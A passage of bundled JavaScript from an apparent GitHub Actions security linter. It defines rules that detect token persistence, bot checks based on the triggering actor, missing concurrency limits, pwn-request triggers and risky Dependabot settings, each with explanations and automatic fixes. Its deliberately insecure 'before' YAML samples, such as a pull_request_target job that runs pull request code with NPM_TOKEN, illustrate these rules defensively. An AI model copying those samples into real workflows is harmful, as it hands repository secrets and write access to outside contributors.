        if (job.uses || job.composite || job.name?.value)
            continue;
        findings.push(at(wf, anonymousDefinitionRule, job.position, `Job ${job.id} has no name: GitHub shows it by its id. Add name: to say what it does.`, { job }));
    }
    return findings;
}

;// CONCATENATED MODULE: ./packages/permissions/src/patterns/artipacked.ts



const artipackedRule = rule({
    id: 'artipacked',
    title: 'actions/checkout leaves the token in the workspace',
    severity: 'warning',
    why: 'By default actions/checkout writes the GITHUB_TOKEN (or the token you give it) into the git configuration so later ' +
        'steps can push. Every later step, and every action or build script it runs, can read it from there; before ' +
        'actions/checkout v6 it sits in `.git/config` inside the workspace, so uploading the workspace as an artifact publishes ' +
        'it (an error here). Most jobs never push.',
    fix: "Add `persist-credentials: false` under the checkout step's `with:` (`fix: true` does it); jobs that push can pass the " +
        'token to that one command instead.',
    before: [
        'steps:',
        '  - uses: actions/checkout@v5',
        '  - uses: actions/upload-artifact@v4',
        '    with:',
        '      path: .',
    ].join('\n'),
    after: [
        'steps:',
        '  - uses: actions/checkout@v5',
        '    with:',
        '      persist-credentials: false',
        '  - uses: actions/upload-artifact@v4',
        '    with:',
        '      path: .',
    ].join('\n'),
});
const FIX_DESCRIPTION = 'fix: true adds persist-credentials: false to this checkout step';
function persists(step) {
    const value = step.with.get('persist-credentials')?.value.trim().toLowerCase();
    if (value === undefined)
        return true;
    if (value === 'false')
        return false;
    // An expression decides at run time: not provably persisted, not reported.
    if (value.includes('${{'))
        return false;
    return true;
}
/** Normalises an upload path line to what it names relative to the workspace ('' = the workspace itself). */
function normalisePath(line) {
    return line
        .trim()
        .replace(/^\$\{\{\s*github\.workspace\s*\}\}\/?/i, '')
        .replace(/^\$\{?GITHUB_WORKSPACE\}?\/?/, '')
        .replace(/^\.\/?/, '')
        .replace(/\/(\*\*?)?$/, '')
        .replace(/^\*\*?$/, '');
}
/**
 * A job's steps of one kind, found once per job: every checkout looks ahead through them, and a job
 * of many checkouts must not cost a scan of all its steps per checkout.
 */
function stepsOfKind(cache, job, kind) {
    let steps = cache.get(job);
    if (!steps)
        cache.set(job, (steps = job.steps.filter(kind)));
    return steps;
}
const uploadSteps = new WeakMap();
const pushSteps = new WeakMap();
/** The upload step (after `from`) whose `path:` covers the checked-out directory, if any. */
function uploadCovering(job, checkout) {
    const dir = normalisePath(checkout.with.get('path')?.value ?? '');
    for (const step of stepsOfKind(uploadSteps, job, (s) => stepUses(s, 'actions/upload-artifact'))) {
        if (step.index <= checkout.index)
            continue;
        const paths = (step.with.get('path')?.value ?? '')
            .split('\n')
            .filter((line) => line.trim() && !line.trim().startsWith('!'));
        for (const line of paths) {
            const path = normalisePath(line);
            if (path === '' || path === dir || (dir !== '' && dir.startsWith(`${path}/`)) || path.split('/').includes('.git'))
                return step;
        }
    }
    return undefined;
}
/** Actions that push with the credentials actions/checkout persisted. */
const PUSHING_ACTIONS = ['stefanzweifel/git-auto-commit-action', 'endbug/add-and-commit', 'ad-m/github-push-action'];
/** A later step of the job that pushes with the persisted credentials, if any. */
function laterPush(job, checkout) {
    const pushes = (step) => (step.run !== undefined && /\bgit\b[^\n]*\bpush\b/.test(step.run.text)) || stepUses(step, ...PUSHING_ACTIONS);
    return stepsOfKind(pushSteps, job, pushes).find((step) => step.index > checkout.index);
}
function auditArtipacked(wf) {
    const findings = [];
    for (const job of wf.jobs) {
        for (const step of job.steps) {
            if (!stepUses(step, 'actions/checkout') || !persists(step))
                continue;
            const upload = uploadCovering(job, step);
            const major = majorVersion(parseUses(step.uses.value).ref);
            const inWorkspace = major === undefined || major < 6;
            const pusher = laterPush(job, step);
            // A job that pushes with the persisted credentials would break: no automatic fix there.
            const fixable = !pusher && editFor(wf, step) !== undefined;
            const message = upload && inWorkspace
                ? `actions/checkout keeps the token in .git/config and step ${(0,src/* stepLabel */.vO)(upload)} uploads the workspace as an artifact: anyone who can download it gets the token. Set persist-credentials: false.`
                : pusher
                    ? `actions/checkout keeps the token in the git configuration, readable by every later step of the job; step ${(0,src/* stepLabel */.vO)(pusher)} pushes with it. Set persist-credentials: false and give the token to that push only.`
                    : 'actions/checkout keeps the token in the git configuration, readable by every later step of the job. Set persist-credentials: false unless a later step pushes.';
            const base = at(wf, artipackedRule, step.uses, message, { job, step });
            findings.push({
                ...base,
                ...(upload && inWorkspace ? { severity: 'error' } : {}),
                ...(fixable ? { fix: FIX_DESCRIPTION } : {}),
            });
        }
    }
    return findings;
}
/** Applies non-overlapping edits (any order). */
function applyEdits(text, edits) {
    let out = text;
    for (const edit of [...edits].sort((a, b) => b.start - a.start || b.end - a.end))
        out = out.slice(0, edit.start) + edit.text + out.slice(edit.end);
    return out;
}
function lineEnd(text, offset) {
    const nl = text.indexOf('\n', offset);
    if (nl === -1)
        return text.length;
    return text[nl - 1] === '\r' ? nl - 1 : nl;
}
function lineStartOf(text, offset) {
    return text.lastIndexOf('\n', offset - 1) + 1;
}
function columnOf(text, offset) {
    return offset - lineStartOf(text, offset);
}
/**
 * The text edit that sets `persist-credentials: false` on one checkout step, by text so that comments,
 * quoting, anchors and line endings elsewhere stay byte-identical. Undefined when the step cannot be
 * edited safely (a flow-style step, an alias).
 */
function editFor(wf, step) {
    const { text } = wf;
    const eol = wf.lineEnding;
    const node = step.node;
    if (node.flow || !node.range)
        return undefined;
    const indent = ' '.repeat(step.position.column - 1);
    const withPair = common_pairOf(node, 'with');
    if (!withPair) {
        const usesPair = common_pairOf(node, 'uses');
        const usesValue = usesPair?.value;
        if (!usesValue?.range)
            return undefined;
        const end = lineEnd(text, usesValue.range[1]);
        return { start: end, end, text: `${eol}${indent}with:${eol}${indent}  persist-credentials: false` };
    }
    const keyNode = withPair.key;
    const value = withPair.value;
    if (!keyNode.range)
        return undefined;
    if (value === null || ((0,dist/* isScalar */.jn)(value) && (value.value === null || value.value === ''))) {
        // `with: ~` / `with: null`: replace the written null; `with:` alone: add the entry below it.
        if (value?.range && value.range[1] > value.range[0])
            return { start: value.range[0], end: value.range[1], text: '{ persist-credentials: false }' };
        const end = lineEnd(text, keyNode.range[1]);
        return { start: end, end, text: `${eol}${indent}  persist-credentials: false` };
    }
    if (!(0,dist/* isMap */.jh)(value) || !value.range)
        return undefined;
    const existing = common_pairOf(value, 'persist-credentials');
    if (existing) {
        const current = existing.value;
        if (current?.range && (0,dist/* isScalar */.jn)(current))
            return { start: current.range[0], end: current.range[1], text: 'false' };
        const end = lineEnd(text, existing.key.range[1]);
        return { start: end, end, text: ' false' };
    }
    if (value.flow) {
        const open = value.range[0];
        if (text[open] !== '{')
            return undefined;
        return {
            start: open + 1,
            end: open + 1,
            text: value.items.length ? ' persist-credentials: false,' : ' persist-credentials: false ',
        };
    }
    const first = value.items[0]?.key;
    if (!first?.range)
        return undefined;
    const itemIndent = ' '.repeat(columnOf(text, first.range[0]));
    // Right after the `with:` line, so comments above the first input stay with it.
    const insertAt = lineEnd(text, keyNode.range[1]);
    return { start: insertAt, end: insertAt, text: `${eol}${itemIndent}persist-credentials: false` };
}
/**
 * Sets `persist-credentials: false` on every checkout step `auditArtipacked` reports. Idempotent: on
 * its own output it changes nothing.
 */
function fixArtipacked(wf) {
    const edits = [];
    const fixed = [];
    const skipped = [];
    for (const job of wf.jobs) {
        for (const step of job.steps) {
            if (!stepUses(step, 'actions/checkout') || !persists(step))
                continue;
            const edit = laterPush(job, step) ? undefined : editFor(wf, step);
            if (edit) {
                edits.push(edit);
                fixed.push({ job: job.id, step: (0,src/* stepLabel */.vO)(step) });
            }
            else {
                skipped.push({ job: job.id, step: (0,src/* stepLabel */.vO)(step) });
            }
        }
    }
    return { text: applyEdits(wf.text, edits), edits, fixed, skipped };
}

;// CONCATENATED MODULE: ./packages/permissions/src/patterns/bot-conditions.ts


const botConditionsRule = rule({
    id: 'bot-conditions',
    title: 'An `if:` trusts a bot by the actor who triggered the run',
    severity: 'error',
    why: '`github.actor` (and `github.triggering_actor`, `github.actor_id`, `github.event.sender`) is whoever caused the latest ' +
        'event, not who wrote the change. In a workflow an outsider can start (pull_request_target, issue_comment, workflow_run, ' +
        "...), the outsider can make that actor a bot: a fork's pull request whose branch Dependabot updates runs with " +
        "`github.actor == 'dependabot[bot]'`, so a step meant for Dependabot's own pull requests (auto-merge, secrets) runs for " +
        "the outsider's code. Reported at each `==` against a `[bot]` login or a known bot id, and at `contains`, `startsWith` " +
        'and `endsWith` tests of such a context against a `[bot]` login, in job and step conditions. An error, except in ' +
        'workflows whose only outsider triggers are pull_request events (fork runs get no secrets): a warning there. ' +
        '`!=` and negated checks exclude the bot and are not reported.',
    fix: "Check the author of the event's subject, which the bot cannot be made to be for someone else's change: " +
        '`github.event.pull_request.user.login` for pull requests, `github.event.comment.user.login` for comments, ' +
        '`github.event.issue.user.login` for issues.',
    before: [
        'on: pull_request_target',
        'jobs:',
        '  automerge:',
        '    runs-on: ubuntu-latest',
        "    if: github.actor == 'dependabot[bot]'",
        '    steps:',
        '      - run: gh pr merge --auto "$PR"',
    ].join('\n'),
    after: [
        'on: pull_request_target',
        'jobs:',
        '  automerge:',
        '    runs-on: ubuntu-latest',
        "    if: github.event.pull_request.user.login == 'dependabot[bot]'",
        '    steps:',
        '      - run: gh pr merge --auto "$PR"',
    ].join('\n'),
});
/** Contexts naming the actor of the latest event, by login. */
const ACTOR_NAMES = new Set([
    'github.actor',
    'github.triggering_actor',
    'github.event.sender.login',
    'github.event.pull_request.sender.login',
]);
/** The same, by numeric id. */
const ACTOR_IDS = new Set(['github.actor_id', 'github.event.sender.id', 'github.event.pull_request.sender.id']);
/**
 * Ids of well-known bots (their logins carry `[bot]`, their ids do not): dependabot[bot], its
 * integration (29110, often mistaken for the user id), dependabot-preview[bot], renovate[bot].
 */
const BOT_IDS = new Set(['49699333', '29110', '27856297', '29139614']);
/** The login or id contexts an expression test compares, when it is one. */
function actorContext(expr) {
    const path = (0,src/* contextPath */.VJ)(expr)?.toLowerCase();
    if (path === undefined)
        return undefined;
    if (ACTOR_NAMES.has(path))
        return { path, kind: 'name' };
    if (ACTOR_IDS.has(path))
        return { path, kind: 'id' };
    return undefined;
}
function literalText(expr) {
    if (!(expr instanceof src/* Literal */.uS))
        return undefined;
    return expr.literal.coerceString();
}
/** A literal that names a bot: a `[bot]` login (for a login context) or a known bot id (for an id context). */
function namesBot(expr, kind) {
    const text = literalText(expr);
    if (text === undefined)
        return false;
    if (kind === 'name')
        return expr.literal instanceof src/* StringData */.uQ && /\[bot\]$/i.test(text.trim());
    return BOT_IDS.has(text.trim());
}
/** `fromJSON('["dependabot[bot]", ...]')` or a literal string mentioning `[bot]`: a list of bots to test against. */
function mentionsBot(expr) {
    if (expr instanceof src/* FunctionCall */.R6 && expr.functionName.lexeme.toLowerCase() === 'fromjson' && expr.args.length === 1)
        return mentionsBot(expr.args[0]);
    const text = literalText(expr);
    return text !== undefined && expr instanceof src/* Literal */.uS && expr.literal instanceof src/* StringData */.uQ && /\[bot\]/i.test(text);
}
/** The bot checks of a condition, with whether each one decides it (zizmor's "dominating"). */
function botChecks(expr, decides, out) {
    if (expr instanceof src/* Grouping */.aU)
        return botChecks(expr.group, decides, out);
    if (expr instanceof src/* Logical */.oD) {
        const or = expr.operator.lexeme === '||';
        for (const arg of expr.args)
            botChecks(arg, decides && or, out);
        return;
    }
    if (expr instanceof src/* Binary */.yI) {
        if (expr.operator.lexeme !== '==')
            return;
        for (const [side, other] of [
            [expr.left, expr.right],
            [expr.right, expr.left],
        ]) {
            const actor = actorContext(side);
            if (actor && namesBot(other, actor.kind)) {
                out.push({ node: expr, actor: actor.path, decides });
                return;
            }
        }
        return;
    }
    if (expr instanceof src/* FunctionCall */.R6) {
        const name = expr.functionName.lexeme.toLowerCase();
        if (!['contains', 'startswith', 'endswith'].includes(name))
            return;
        const actorArg = expr.args.findIndex((arg) => actorContext(arg)?.kind === 'name');
        if (actorArg !== -1 && expr.args.some((arg, i) => i !== actorArg && mentionsBot(arg)))
            out.push({ node: expr, actor: actorContext(expr.args[actorArg]).path, decides });
    }
    // `!` (a negated check excludes the bot), comparisons other than `==`, and other calls grant nothing.
}
/** Per trigger, the context naming the author of the event's subject (what the bot cannot be made to be). */
const AUTHOR_CONTEXTS = {
    pull_request: "github.event.pull_request.user.login (the pull request's author)",
    pull_request_target: "github.event.pull_request.user.login (the pull request's author)",
    pull_request_review: "github.event.review.user.login (the review's author)",
    pull_request_review_comment: "github.event.comment.user.login (the comment's author)",
    issue_comment: "github.event.comment.user.login (the comment's author)",
    discussion_comment: "github.event.comment.user.login (the comment's author)",
    issues: "github.event.issue.user.login (the issue's author)",
    discussion: "github.event.discussion.user.login (the discussion's author)",
};
/** Outsider triggers whose runs from forks get neither secrets nor a token that can write. */
const FORK_LIMITED_TRIGGERS = new Set(['pull_request', 'pull_request_review', 'pull_request_review_comment']);
function auditBotConditions(wf) {
    if (wf.kind !== 'workflow')
        return [];
    const outsiders = wf.triggers.filter((t) => OUTSIDER_TRIGGERS.has(t.name)).map((t) => t.name);
    if (!outsiders.length)
        return [];
    const severity = outsiders.every((name) => FORK_LIMITED_TRIGGERS.has(name)) ? 'warning' : 'error';
    const authors = [...new Set(outsiders.map((name) => AUTHOR_CONTEXTS[name]))];
    const author = authors.length === 1 && authors[0] !== undefined
        ? `Check ${authors[0]} instead`
        : "Check the author of the event's subject instead (github.event.pull_request.user.login, github.event.comment.user.login, ...)";
    const findings = [];
    for (const placed of conditions(wf)) {
        if (!placed.ast || placed.condition.kind === 'embedded')
            continue;
        const checks = [];
        botChecks(placed.ast, true, checks);
        for (const check of checks) {
            const range = (0,src/* expressionRange */.Y9)(placed.condition.expression, check.node);
            const written = placed.condition.expression.slice(range.start, range.end);
            const alone = check.decides
                ? 'it alone lets the ' + (placed.step ? 'step' : 'job') + ' run'
                : 'it is one of the checks that let the ' + (placed.step ? 'step' : 'job') + ' run';
            findings.push({
                ...at(wf, botConditionsRule, conditionNodePosition(placed, check.node), `${written} trusts ${check.actor}, the actor of the latest event (${alone}): in this ${outsiders.join(' / ')} ` +
                    `workflow an outsider can make that actor a bot, e.g. by having Dependabot update a fork's pull request. ${author}.`, { job: placed.job, ...(placed.step ? { step: placed.step } : {}) }),
                severity,
            });
        }
    }
    return findings;
}

;// CONCATENATED MODULE: ./packages/permissions/src/patterns/concurrency-limits.ts



const concurrencyLimitsRule = rule({
    id: 'concurrency-limits',
    title: 'Runs that supersede each other are not cancelled',
    severity: 'note',
    // Wasted runner time rather than a risk: a pedantic finding, as in zizmor.
    persona: 'pedantic',
    why: 'Each push to a branch or pull request starts a new run while the previous ones keep going: anyone who can open a pull ' +
        'request can keep your runners (and billed minutes) busy by pushing again and again, and two runs of the same ref race ' +
        'when they look up artifacts or caches by workflow and job rather than by run id. A `concurrency:` group with ' +
        '`cancel-in-progress` lets a new run cancel the one it replaces. Reported for workflows on push (to branches), ' +
        'pull_request and pull_request_target; workflows only called by others (workflow_call) are left to their caller, and ' +
        'an explicit `cancel-in-progress: false` is respected.',
    fix: 'Add a workflow-level `concurrency:` with a group per ref and `cancel-in-progress: true` (or an expression that is true ' +
        'for pull requests, so pushes to the default branch all finish).',
    before: [
        'on: pull_request',
        'jobs:',
        '  test:',
        '    runs-on: ubuntu-latest',
        '    steps:',
        '      - run: make test',
    ].join('\n'),
    after: [
        'on: pull_request',
        'concurrency:',
        '  group: ${{ github.workflow }}-${{ github.event.pull_request.number || github.ref }}',
        '  cancel-in-progress: true',
        'jobs:',
        '  test:',
        '    runs-on: ubuntu-latest',
        '    steps:',
        '      - run: make test',
    ].join('\n'),
});
/** True for a trigger whose runs for one ref supersede each other: a push to branches, a pull request's pushes. */
function runsOften(trigger) {
    if (trigger.name === 'pull_request' || trigger.name === 'pull_request_target')
        return true;
    if (trigger.name !== 'push')
        return false;
    const filters = trigger.filters;
    // A push filtered to tags only is a release: cancelling one midway is worse than running two.
    if (filters && typeof filters === 'object') {
        const tags = filters.tags !== undefined || filters['tags-ignore'] !== undefined;
        const branches = filters.branches !== undefined || filters['branches-ignore'] !== undefined;
        if (tags && !branches)
            return false;
    }
    return true;
}
/** What a `concurrency:` value limits: a bare group (string) never cancels; a mapping cancels when it says so. */
function limitOf(pair) {
    if (!pair)
        return 'none';
    const value = pair.value;
    if ((0,dist/* isMap */.jh)(value))
        return common_pairOf(value, 'cancel-in-progress') ? 'set' : 'no-cancel';
    if ((0,dist/* isScalar */.jn)(value) && value.value !== null && value.value !== '')
        return 'no-cancel';
    return 'none';
}
function keyPosition(wf, pair) {
    const key = pair.key;
    return (0,src/* positionAt */.t$)(wf, key.range?.[0] ?? 0);
}
function auditConcurrencyLimits(wf) {
    if (wf.kind !== 'workflow')
        return [];
    // Only workflows on frequent triggers: a reusable-only one inherits its caller's concurrency (limiting it too can deadlock).
    const frequent = wf.triggers.filter(runsOften);
    if (!frequent.length)
        return [];
    const root = wf.document.contents;
    if (!(0,dist/* isMap */.jh)(root))
        return [];
    const events = [...new Set(frequent.map((t) => t.name))].join(' / ');
    const workflowPair = common_pairOf(root, 'concurrency');
    const workflowLimit = limitOf(workflowPair);
    if (workflowLimit === 'set')
        return [];
    if (workflowLimit === 'no-cancel')
        return [
            at(wf, concurrencyLimitsRule, keyPosition(wf, workflowPair), `The workflow's concurrency has no cancel-in-progress: a new ${events} run waits behind the one it replaces instead of cancelling it. Add cancel-in-progress: true.`),
        ];
    const findings = [];
    const unlimited = [];
    for (const job of wf.jobs) {
        // A reusable-workflow call is limited by the called workflow's own settings.
        if (job.uses || job.composite)
            continue;
        const pair = common_pairOf(job.node, 'concurrency');
        const limit = limitOf(pair);
        if (limit === 'none')
            unlimited.push(job.id);
        else if (limit === 'no-cancel')
            findings.push(at(wf, concurrencyLimitsRule, keyPosition(wf, pair), `Job ${job.id}'s concurrency has no cancel-in-progress: a new ${events} run waits behind the one it replaces. Add cancel-in-progress: true.`, { job }));
    }
    if (unlimited.length) {
        const onPair = common_pairOf(root, 'on');
        const jobs = unlimited.length === wf.jobs.length
            ? 'its jobs'
            : `job${unlimited.length === 1 ? '' : 's'} ${unlimited.join(', ')}`;
        findings.push(at(wf, concurrencyLimitsRule, onPair ? keyPosition(wf, onPair) : frequent[0].position, `The workflow runs on ${events} with no concurrency group for ${jobs}: runs of the same ref pile up instead of cancelling each other. Add concurrency: with cancel-in-progress: true.`));
    }
    return findings;
}

;// CONCATENATED MODULE: ./packages/permissions/src/patterns/dangerous-triggers.ts


const dangerousTriggersRule = rule({
    id: 'dangerous-triggers',
    title: 'pull_request_target or workflow_run runs with privileges for outsiders',
    severity: 'warning',
    why: '`pull_request_target` and `workflow_run` run in the base repository with its secrets and a token that can write, ' +
        "for events a fork's author starts. On their own they run trusted code; checking out or running the pull request's " +
        "code (its head ref or SHA, `refs/pull/*`, `gh pr checkout`) hands those privileges to the pull request's author " +
        '(a "pwn request"). A warning for the trigger; an error where such a workflow runs pull request code in a job that has ' +
        'secrets or a token that can write. `issue_comment` runs the same way for a comment anyone can post: it is reported ' +
        'only where it checks out the pull request commented on.',
    fix: 'Prefer `pull_request` (no secrets, read-only token for forks). If the privileged trigger is needed, never check out or ' +
        'run the pull request there: build in a `pull_request` workflow, and only consume its results (as data, never as code) ' +
        'in the privileged one, with `permissions:` cut to what it needs.',
    before: [
        'on: pull_request_target',
        'jobs:',
        '  test:',
        '    runs-on: ubuntu-latest',
        '    steps:',
        '      - uses: actions/checkout@v5',
        '        with:',
        '          ref: ${{ github.event.pull_request.head.sha }}',
        '      - run: npm test',
        '        env:',
        '          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}',
    ].join('\n'),
    after: [
        'on: pull_request',
        'permissions: {}',
        'jobs:',
        '  test:',
        '    runs-on: ubuntu-latest',
        '    permissions:',
        '      contents: read # actions/checkout',
        '    steps:',
        '      - uses: actions/checkout@v5',
        '        with:',
        '          persist-credentials: false',
        '      - run: npm test',
    ].join('\n'),
});
/** Context paths that name the pull request's own code (not the base branch). */
const PR_HEAD_CONTEXTS = [
    'github.event.pull_request.head.sha',
    'github.event.pull_request.head.ref',
    'github.event.pull_request.head.repo.full_name',
    'github.head_ref',
    'github.event.workflow_run.head_sha',
    'github.event.workflow_run.head_branch',
    'github.event.workflow_run.head_commit.id',
    'github.event.workflow_run.head_repository.full_name',
    'github.event.workflow_run.pull_requests.*.head.sha',
    'github.event.workflow_run.pull_requests.*.head.ref',
];
function namesPrHead(text) {
    if (/refs\/pull\//.test(text))
        return true;
    for (const found of (0,src/* findExpressions */.zV)(text)) {
        if ((0,src/* expressionContexts */.Hu)(found.expression).some((path) => PR_HEAD_CONTEXTS.includes(path)))
            return true;
    }
    return false;
}
function namesCommentedPr(text) {
    return (0,src/* findExpressions */.zV)(text).some((found) => (0,src/* expressionContexts */.Hu)(found.expression).some((path) => /^steps\.[^.]+\.outputs\.\S*(sha|ref|head)/i.test(path)));
}
/**
 * Where a step checks out or fetches the pull request's code, if it does. With `issueComment`, a
 * checkout of a ref computed by an earlier step (`steps.pr.outputs.head_sha`) counts too: that is how
 * comment-triggered workflows find the pull request commented on.
 */
function prCodeCheckout(step, issueComment = false) {
    if (stepUses(step, 'actions/checkout')) {
        for (const input of ['ref', 'repository']) {
            const value = step.with.get(input);
            if (value && (namesPrHead(value.value) || (issueComment && namesCommentedPr(value.value))))
                return { position: value, how: `actions/checkout with ${input}: ${value.value.trim()}` };
        }
    }
    const run = step.run;
    if (run) {
        const patterns = [
            [/\bgh\s+pr\s+checkout\b/, 'gh pr checkout'],
            [/\bgit\s+(?:fetch|pull)\b[^\n]*\bpull\/[^\s]*\/(?:head|merge)/, 'git fetch of refs/pull/*'],
            [/\brefs\/pull\//, 'refs/pull/*'],
        ];
        for (const [pattern, how] of patterns) {
            const match = pattern.exec(run.text);
            if (match)
                return { position: run.offsetToPosition(match.index), how };
        }
        for (const found of (0,src/* findExpressions */.zV)(run.text, run.offsetToPosition)) {
            const lineStart = run.text.lastIndexOf('\n', found.start) + 1;
            const lineEnd = run.text.indexOf('\n', found.end);
            const line = run.text.slice(lineStart, lineEnd === -1 ? undefined : lineEnd);
            if (/\bgit\s+(?:fetch|checkout|switch|pull|reset|worktree)\b/.test(line) &&
                (0,src/* expressionContexts */.Hu)(found.expression).some((path) => PR_HEAD_CONTEXTS.includes(path))) {
                return { position: { line: found.line, column: found.column }, how: `git with \${{ ${found.expression} }}` };
            }
        }
    }
    return undefined;
}
/**
 * `issue_comment` also runs in the base repository (secrets, a token that can write) for a comment anyone
 * can post. It is not reported on its own (most comment bots are fine), only where it runs PR code.
 */
const CHECKOUT_SENSITIVE_TRIGGERS = new Set([...PRIVILEGED_PR_TRIGGERS, 'issue_comment']);
function auditDangerousTriggers(wf) {
    const privileged = wf.triggers.filter((t) => PRIVILEGED_PR_TRIGGERS.has(t.name));
    const sensitive = wf.triggers.filter((t) => CHECKOUT_SENSITIVE_TRIGGERS.has(t.name));
    if (!sensitive.length)
        return [];
    const issueComment = sensitive.some((t) => t.name === 'issue_comment');
    const names = sensitive.map((t) => t.name).join(' and ');
    const errors = [];
    for (const job of wf.jobs) {
        const checkouts = job.steps
            .map((step) => ({ step, checkout: prCodeCheckout(step, issueComment) }))
            .filter((c) => c.checkout);
        if (!checkouts.length)
            continue;
        const privileges = privilegesOf(wf, job);
        if (!privileges.length)
            continue;
        for (const { step, checkout } of checkouts) {
            errors.push({
                ...at(wf, dangerousTriggersRule, checkout.position, `This ${names} workflow runs the pull request's code (${checkout.how}) in job ${job.id}, which has ${privileges.join(' and ')}: ` +
                    "the pull request's author can use them. Build untrusted code in a pull_request workflow instead.", { job, step }),
                severity: 'error',
            });
        }
    }
    if (errors.length)
        return errors;
    // issue_comment alone is not reported.
    return privileged.map((trigger) => at(wf, dangerousTriggersRule, trigger.position, `${trigger.name} runs with the base repository's secrets and a token that can write, for events outsiders start. ` +
        "It is safe only while no step checks out or runs the pull request's code; prefer pull_request where you can."));
}
function privilegesOf(wf, job) {
    const out = [];
    if (jobUsesSecrets(wf, job))
        out.push('secrets');
    if (jobTokenMayWrite(wf, job))
        out.push((job.permissions ?? wf.permissions)
            ? 'a token that can write'
            : 'the default token (write access unless the repository restricts it)');
    return out;
}

;// CONCATENATED MODULE: ./packages/permissions/src/patterns/dependabot.ts


/** A Dependabot configuration is a page of YAML; anything much larger is a mistake or an attack. */
const MAX_DEPENDABOT_BYTES = 1024 * 1024;
/** How long a release should age before Dependabot proposes it, unless the policy says otherwise. */
const DEFAULT_COOLDOWN_DAYS = 7;
/** True for a path Dependabot reads its configuration from: `dependabot.yml` or `.yaml`, not a workflow of that name. */
function isDependabotPath(file) {
    const parts = file.replace(/\\/g, '/').split('/');
    return /^dependabot\.ya?ml$/i.test(parts.at(-1) ?? '') && parts.at(-2) !== 'workflows';
}
function stringAt(map, key) {
    const value = map.get(key, true);
    return (0,dist/* isScalar */.jn)(value) && value.value !== null ? String(value.value) : undefined;
}
/** Parses a Dependabot configuration's text; errors are kept, not thrown. */
function loadDependabotFile(file, text) {
    const lineCounter = new dist/* LineCounter */.HN();
    const positionOf = (node) => {
        const pos = lineCounter.linePos(node.range?.[0] ?? 0);
        return { line: pos.line, column: pos.col };
    };
    const result = { file, text, errors: [], updates: [], positionOf };
    let doc;
    try {
        doc = (0,dist/* parseDocument */.Tp)(text, { lineCounter, uniqueKeys: true, prettyErrors: false });
    }
    catch (error) {
        if (!(error instanceof RangeError))
            throw error;
        result.errors.push({ message: 'Dependabot configuration is nested too deeply to be read.', line: 1, column: 1 });
        return result;
    }
    for (const error of doc.errors) {
        const pos = lineCounter.linePos(error.pos[0]);
        // The code, not the parser's message: a file that is not YAML at all must not be quoted.
        result.errors.push({
            message: `Dependabot configuration is not valid YAML (${error.code}).`,
            line: pos.line,
            column: pos.col,
        });
    }
    if (result.errors.length || !(0,dist/* isMap */.jh)(doc.contents))
        return result;
    const updates = doc.contents.get('updates', true);
    if (!(0,dist/* isSeq */.oP)(updates))
        return result;
    updates.items.forEach((item, index) => {
        if (!(0,dist/* isMap */.jh)(item))
            return;
        const first = item.items[0]?.key;
        const { line, column } = positionOf(((0,dist/* isScalar */.jn)(first) ? first : item));
        const update = { index, line, column, node: item };
        const ecosystem = stringAt(item, 'package-ecosystem');
        const directory = stringAt(item, 'directory') ?? stringAt(item, 'directories');
        if (ecosystem !== undefined)
            update.ecosystem = ecosystem;
        if (directory !== undefined)
            update.directory = directory;
        result.updates.push(update);
    });
    return result;
}
const dependabotCooldownRule = rule({
    id: 'dependabot-cooldown',
    title: 'Dependabot proposes releases before they have aged',
    severity: 'warning',
    why: 'A compromised release of a dependency is usually found and pulled within days. An update without a `cooldown` ' +
        '(or with a short one) proposes it as soon as it is published, and one merge, often automatic, ships it. A cooldown ' +
        'makes Dependabot wait that many days after a release before proposing it; security updates are not delayed. Each ' +
        '`updates:` entry is checked: no `cooldown`, a `cooldown` without `default-days`, and a `default-days` or ' +
        "`semver-*-days` under the minimum (7 days, or the policy's `harden-permissions: dependabot-cooldown-days:`).",
    fix: 'Add `cooldown: {default-days: 7}` (or more) to every update.',
    before: [
        'version: 2',
        'updates:',
        '  - package-ecosystem: npm',
        '    directory: /',
        '    schedule:',
        '      interval: weekly',
    ].join('\n'),
    after: [
        'version: 2',
        'updates:',
        '  - package-ecosystem: npm',
        '    directory: /',
        '    schedule:',
        '      interval: weekly',
        '    cooldown:',
        '      default-days: 7',
    ].join('\n'),
});
const dependabotExecutionRule = rule({
    id: 'dependabot-execution',
    title: 'Dependabot runs code from the dependencies it updates',
    severity: 'error',
    why: '`insecure-external-code-execution: allow` lets Dependabot run code from manifests and dependencies (setup.py, ' +
        'gemspecs, install scripts) while it resolves an update. A compromised dependency then runs inside the update job, with ' +
        'the private registry credentials Dependabot was given.',
    fix: 'Remove `insecure-external-code-execution` (the default is deny) or set it to `deny`.',
    before: [
        'updates:',
        '  - package-ecosystem: pip',
        '    directory: /',
        '    schedule:',
        '      interval: daily',
        '    insecure-external-code-execution: allow',
    ].join('\n'),
    after: ['updates:', '  - package-ecosystem: pip', '    directory: /', '    schedule:', '      interval: daily'].join('\n'),
});
function label(update) {
    const what = update.ecosystem ?? `#${update.index + 1}`;
    return update.directory ? `${what} (${update.directory})` : what;
}
function dependabot_finding(dep, definition, position, message) {
    return {
        rule: definition.id,
        severity: definition.severity,
        message,
        file: dep.file,
        line: position.line,
        column: position.column,
    };
}
const SEMVER_DAYS = ['semver-major-days', 'semver-minor-days', 'semver-patch-days'];
function auditDependabotCooldown(dep, settings = {}) {
    const minimum = settings.dependabotCooldownDays ?? DEFAULT_COOLDOWN_DAYS;
    const findings = [];
    for (const update of dep.updates) {
        const cooldownPair = update.node.items.find((pair) => (0,dist/* isScalar */.jn)(pair.key) && pair.key.value === 'cooldown');
        const cooldown = cooldownPair?.value;
        if (!cooldownPair || !(0,dist/* isMap */.jh)(cooldown)) {
            const where = cooldownPair ? dep.positionOf(cooldownPair.key) : update;
            findings.push(dependabot_finding(dep, dependabotCooldownRule, where, `Update ${label(update)} has no cooldown: Dependabot proposes a release as soon as it is published. Add cooldown: {default-days: ${minimum}}.`));
            continue;
        }
        const defaultDays = cooldown.get('default-days', true);
        if (!defaultDays) {
            findings.push(dependabot_finding(dep, dependabotCooldownRule, dep.positionOf(cooldownPair.key), `Update ${label(update)} sets a cooldown without default-days: releases not covered by its other settings are proposed at once. Add default-days: ${minimum}.`));
        }
        for (const key of ['default-days', ...SEMVER_DAYS]) {
            const node = cooldown.get(key, true);
            if (!(0,dist/* isScalar */.jn)(node))
                continue;
            const days = typeof node.value === 'number' ? node.value : Number.NaN;
            if (days >= minimum)
                continue;
            findings.push(dependabot_finding(dep, dependabotCooldownRule, dep.positionOf(node), Number.isNaN(days)
                ? `Update ${label(update)}: cooldown ${key} is not a number of days. Write ${key}: ${minimum}.`
